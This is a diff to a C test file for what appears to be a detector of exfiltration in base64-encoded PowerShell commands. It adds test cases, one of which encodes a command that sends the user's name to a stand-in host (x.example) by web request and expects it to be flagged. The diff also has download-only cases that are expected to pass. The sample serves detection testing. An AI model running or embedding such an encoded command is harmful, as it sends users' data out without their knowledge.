@@ -209,6 +209,16 @@ static void test_powershell_encoded(void)
 	YES(c, "exfiltration", "decoded: ");
 	free(c);
 	free(e);
+	e = ps_enc("$UserName = [Environment]::UserName\n$r = iwr -UseBasicParsing \"https://x.example/p?n=$username\"");
+	c = fmt("powershell -enc %s", e);
+	YES(c, "exfiltration", "decoded: ");
+	free(c);
+	free(e);
+	e = ps_enc("iwr https://x.example/a.zip -OutFile $home\\a.zip; iwr \"https://x.example/b.zip\" -o \"$PWD\\b.zip\"");
+	c = fmt("powershell -enc %s", e);
+	NO(c, "exfiltration", NULL);
+	free(c);
+	free(e);
 	e = ps_enc("$v='1.2.3'; iwr \"https://x.example/tool-$v.zip\" -OutFile \"$env:TEMP\\tool.zip\"; "
 	           "Expand-Archive \"$env:TEMP\\tool.zip\" -DestinationPath $env:LOCALAPPDATA");
 	c = fmt("powershell -enc %s", e);
